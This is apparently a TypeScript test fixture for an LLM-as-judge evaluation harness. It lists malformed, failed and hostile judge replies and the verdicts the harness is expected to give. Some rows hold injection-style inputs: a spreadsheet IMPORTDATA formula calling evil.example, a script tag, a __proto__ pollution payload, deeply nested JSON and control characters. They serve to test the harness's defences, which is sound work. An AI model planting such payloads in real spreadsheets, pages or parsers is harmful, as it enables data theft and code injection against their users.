/** What a judge of any quality, a proxy, or anything in between may send back, and what must become of the row. */

/** What the server sends: an HTTP reply, or nothing at all. */
export type Sent =
  | { readonly status: number; readonly body: string; readonly headers?: Readonly<Record<string, string>> }
  | { readonly failure: string };

interface JudgeReply {
  readonly what: string;
  /** The first reply, the second, …; the last one repeats. */
  readonly sent: readonly Sent[];
  /** The row's verdict, and its error or the reason of its score. */
  readonly verdict: 'pass' | 'fail' | 'error' | 'needs_judge';
  readonly says: RegExp;
  /** How often the judge is asked. */
  readonly asked: number;
}

/** A chat completion whose message is this. */
const completion = (content: unknown, more: object = {}): Sent => ({
  status: 200,
  body: JSON.stringify({
    id: 'c',
    object: 'chat.completion',
    model: 'm',
    choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content }, ...more }],
    usage: { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 },
  }),
});

const verdict = (score: unknown, reason: unknown = 'It says the same.', type: unknown = 'text'): string =>
  JSON.stringify({ agent_answer: { evidence: 'It was S. Dakota', reason, answer_type: type, score } });
const GOOD = completion(verdict(1));
const html = (status: number): Sent => ({
  ...{ status, body: '<!DOCTYPE html><html><body>Please log in</body></html>' },
  headers: { 'Content-Type': 'text/html' },
});
const error = (status: number, message: string, headers?: Readonly<Record<string, string>>): Sent => ({
  ...{ status, body: JSON.stringify({ error: { message, type: 'error', code: null } }) },
  ...(headers && { headers }),
});
const row = (
  what: string,
  sent: Sent | readonly Sent[],
  verdict: JudgeReply['verdict'],
  says: RegExp,
  asked = 1,
): JudgeReply => ({ what, sent: 'length' in sent ? sent : [sent], verdict, says, asked });

const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

const FORM = /^the judge gave no usable verdict: the reply does not have the form that was asked for$/;
const EMPTY = /^the judge gave no usable verdict: the reply is empty$/;
const NO_JSON = /^the judge’s reply is not JSON \(after 3 attempts\)$/;

export const JUDGE_REPLIES: readonly JudgeReply[] = [
  // As it should be, and as many models write it.
  row('a verdict', GOOD, 'pass', /It says the same/),
  row('a verdict of 0', completion(verdict(0, 'It says something else.')), 'fail', /something else/),
  row('in a fence', completion(`\`\`\`json\n${verdict(1)}\n\`\`\``), 'pass', /says the same/),
  row('after prose', completion(`Here is my verdict:\n${verdict(1)}\nThat is all.`), 'pass', /says the same/),
  row(
    'after a closed thought',
    completion(`<think>Is it 0? {"score": 0}</think>${verdict(1)}`),
    'pass',
    /says the same/,
  ),
  row(
    'in a list of content parts',
    completion([{ type: 'text', text: verdict(1) }]),
    'pass',
    /says the same/,
  ),
  row('with a byte order mark', completion(`\ufeff${verdict(1)}`), 'pass', /says the same/),
  // Not a verdict.
  row('no JSON', completion('The answer is right.'), 'error', FORM, 2),
  row('nothing', completion(''), 'error', EMPTY, 2),
  row('null for a message', completion(null), 'error', EMPTY, 2),
  row('a number for a message', completion(1), 'error', EMPTY, 2),
  row('blanks', completion('   \n '), 'error', EMPTY, 2),
  row('cut off in the middle', completion(verdict(1).slice(0, 40)), 'error', FORM, 2),
  row(
    'cut off, and says so',
    completion(verdict(1).slice(0, 40), { finish_reason: 'length' }),
    'error',
    /^the verdict was cut off at 6000 tokens$/,
    2,
  ),
  row(
    'a reason against its score',
    completion(verdict(0, 'The text matches the expected answer.')),
    'error',
    /^the judge gave no usable verdict: of agent_answer the score is 0, and the reason says that it passes$/,
    2,
  ),
  row('an empty object', completion('{}'), 'error', FORM, 2),
  row('an empty list', completion('[]'), 'error', FORM, 2),
  row('a bare true', completion('true'), 'error', FORM, 2),
  row('a bare 1', completion('1'), 'error', FORM, 2),
  row('a text in quotes', completion('"pass"'), 'error', FORM, 2),
  row(
    'another part',
    completion(JSON.stringify({ charts_answer: { reason: 'r', answer_type: 'text', score: 1 } })),
    'error',
    FORM,
    2,
  ),
  row('the score alone', completion(JSON.stringify({ agent_answer: { score: 1 } })), 'error', FORM, 2),
  row('a reason alone', completion(JSON.stringify({ agent_answer: { reason: 'r' } })), 'error', FORM, 2),
  row('a score of 2', completion(verdict(2)), 'error', FORM, 2),
  row('a score of -1', completion(verdict(-1)), 'error', FORM, 2),
  row('a score of 0.5', completion(verdict(0.5)), 'error', FORM, 2),
  row('a score of null', completion(verdict(null)), 'error', FORM, 2),
  row('a score in words', completion(verdict('right')), 'error', FORM, 2),
  row('a list of scores', completion(verdict([1])), 'error', FORM, 2),
  row('an object for a score', completion(verdict({ value: 1 })), 'error', FORM, 2),
  row(
    'a score of 1e999',
    completion('{"agent_answer":{"reason":"r","answer_type":"text","score":1e999}}'),
    'error',
    FORM,
    2,
  ),
  row('a number for a reason', completion(verdict(1, 5)), 'error', FORM, 2),
  row(
    'two verdicts that differ',
    completion(`${verdict(1)}\n${verdict(0, 'No.')}`),
    'error',
    /^the judge gave no usable verdict: the reply holds several verdicts$/,
    2,
  ),
  row(
    'a prototype for a verdict',
    completion('{"__proto__":{"agent_answer":{"reason":"r","answer_type":"text","score":1}}}'),
    'error',
    FORM,
    2,
  ),
  row('JSON of 20,000 levels', completion(deep(20_000)), 'error', FORM, 2),
  row(
    'a schema instead of a verdict',
    completion(JSON.stringify({ type: 'object', properties: { agent_answer: { type: 'object' } } })),
    'error',
    FORM,
    2,
  ),
  row(
    'a refusal',
    completion(null, { message: { role: 'assistant', content: null, refusal: 'I cannot help with that.' } }),
    'error',
    /^the model refused to judge: I cannot help with that\.$/,
    1,
  ),
  row(
    'a filtered reply',
    completion('', { finish_reason: 'content_filter' }),
    'error',
    /^the provider’s content filter withheld the verdict$/,
    1,
  ),
  // Right at the second try.
  row('prose, then a verdict', [completion('Right.'), GOOD], 'pass', /says the same/, 2),
  row('a score of 2, then a verdict', [completion(verdict(2)), GOOD], 'pass', /says the same/, 2),
  row('a gateway that is busy, then a verdict', [html(503), GOOD], 'pass', /says the same/, 2),
  row('a hang-up, then a verdict', [{ failure: 'Address unavailable: x' }, GOOD], 'pass', /says the same/, 2),
  row(
    'a rate limit, then a verdict',
    [error(429, 'slow down', { 'Retry-After': '1' }), GOOD],
    'pass',
    /says the same/,
    2,
  ),
  row(
    'half of the HTTP reply, then a verdict',
    [{ status: 200, body: '{"choices":[{"mess' }, GOOD],
    'pass',
    /says the same/,
    2,
  ),
  // Not a model's reply.
  row('a page with 200', html(200), 'error', NO_JSON, 3),
  row(
    'a page with 502',
    html(502),
    'error',
    /^the judge answered 502: Please log in \(after 3 attempts\)$/,
    3,
  ),
  row(
    'a redirect',
    { status: 302, body: '', headers: { Location: 'https://evil.example/' } },
    'error',
    /^the judge answered 302$/,
    1,
  ),
  row('nothing with 200', { status: 200, body: '' }, 'error', NO_JSON, 3),
  row('nothing with 204', { status: 204, body: '' }, 'error', NO_JSON, 3),
  row('JSON that is not a completion', { status: 200, body: '{"ok":true}' }, 'error', EMPTY, 2),
  row('no choices', { status: 200, body: '{"choices":[]}' }, 'error', EMPTY, 2),
  row('null', { status: 200, body: 'null' }, 'error', NO_JSON, 3),
  row(
    'an error with 200',
    { status: 200, body: '{"error":{"message":"upstream failed"}}' },
    'error',
    /^the judge answered with an error: upstream failed$/,
  ),
  row('HTTP 400', error(400, 'bad request'), 'error', /^the judge answered 400: bad request$/, 1),
  row(
    'HTTP 404',
    error(404, 'no such model'),
    'needs_judge',
    /^not asked: api\.openai\.com has no model m at this address \(404\)$/,
    1,
  ),
  row('HTTP 413', error(413, 'too large'), 'error', /^the judge answered 413: too large$/, 1),
  row('HTTP 418', error(418, 'a teapot'), 'error', /^the judge answered 418: a teapot$/, 1),
  row('HTTP 500', error(500, 'oops'), 'error', /^the judge answered 500: oops \(after 3 attempts\)$/, 3),
  row('HTTP 999', { status: 999, body: 'x' }, 'error', /^the judge answered 999: x$/, 1),
  row(
    'nobody',
    { failure: 'Address unavailable: x' },
    'error',
    /^the judge could not be reached: Address unavailable: x$/,
    3,
  ),
  row('DNS error', { failure: 'DNS error: x' }, 'error', /^the judge could not be reached: DNS error: x$/, 3),
  // Hostile replies.
  row(
    'a formula for a reason',
    completion(verdict(1, '=IMPORTDATA("https://evil.example")')),
    'pass',
    /^=IMPORTDATA/,
  ),
  row('a script for a reason', completion(verdict(1, '<script>alert(1)</script>')), 'pass', /<script>/),
  row('a reason of 100,000 characters', completion(verdict(1, 'a'.repeat(100_000))), 'pass', /^a{100}/),
  row('control characters in a reason', completion(verdict(1, 'a\u0000b\u001b[31mc\u202ed')), 'pass', /./),
];
